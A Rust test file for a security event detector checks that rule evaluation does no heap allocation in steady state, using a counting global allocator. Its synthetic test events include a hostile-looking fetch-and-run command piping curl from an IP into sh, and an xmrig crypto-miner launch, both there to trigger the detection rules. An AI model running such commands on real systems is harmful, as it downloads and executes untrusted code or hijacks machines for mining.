//! Evaluation allocates nothing once its scratch has grown to the events.

use std::{
    alloc::{GlobalAlloc, Layout, System},
    cell::Cell,
    path::Path,
};

use audit_detect::RuleSet;
use audit_proto::v1::{Event, Kind, Parent, Process};

struct Counting;

thread_local! {
    static ALLOCATIONS: Cell<u64> = const { Cell::new(0) };
}

#[expect(unsafe_code, reason = "only an allocator sees allocations")]
// SAFETY: every call is handed to the system allocator unchanged.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.with(|count| count.set(count.get() + 1));
        // SAFETY: the caller keeps the contract of `alloc`.
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, at: *mut u8, layout: Layout) {
        // SAFETY: `at` came from `alloc` above.
        unsafe { System.dealloc(at, layout) }
    }
}

#[global_allocator]
static ALLOCATOR: Counting = Counting;

#[test]
fn no_allocation_in_steady_state() {
    let (rules, report) = RuleSet::load(&[Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")]);
    assert!(report.loaded > 0);
    let lines = [
        "sh -c curl http://192.0.2.7/a | sh",
        "xmrig -o stratum+tcp://x",
        "cc -O2 é a\\\\b.c",
    ];
    let events = lines.map(|line| Event {
        kind: Kind::Exec as i32,
        process: Some(Process {
            exe: "/usr/bin/dash".into(),
            exe_invoked: "/bin/sh".into(),
            argv: line.split(' ').map(str::to_owned).collect(),
            ..Process::default()
        }),
        parent: Some(Parent::default()),
        ..Event::default()
    });
    let (mut scratch, mut matched) = (rules.scratch(), Vec::new());
    let mut found = 0;
    let mut round = || {
        for event in &events {
            rules.evaluate(event, &mut scratch, &mut matched);
            found += matched.len();
        }
    };
    round();
    round();
    let before = ALLOCATIONS.with(Cell::get);
    (0..100).for_each(|_| round());
    assert_eq!(ALLOCATIONS.with(Cell::get) - before, 0);
    assert!(found > 0, "events that match nothing would prove little");
}
